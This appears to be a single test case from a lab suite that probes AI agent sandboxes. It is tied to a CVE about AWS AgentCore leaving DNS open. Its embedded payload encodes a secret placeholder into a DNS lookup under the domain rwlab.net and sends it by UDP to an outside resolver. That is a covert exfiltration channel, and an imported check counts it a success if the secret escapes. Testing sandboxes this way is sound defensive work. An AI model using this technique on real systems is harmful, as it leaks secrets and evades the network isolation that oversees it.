"""asks the host's resolver directly, by UDP"""

from act_parts import DNS_QUERY as _DNS_QUERY
from evidence import secret_left as succeeded

SHAPE = "CVE-2025-55284; AWS AgentCore: DNS left open"
PROMISE = "P24"
LAB = True
WALLS = "network-namespace"
PYTHON = _DNS_QUERY + """
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query("@SECRET@.rwlab.net", 1), ("93.184.216.53", 53))
"""
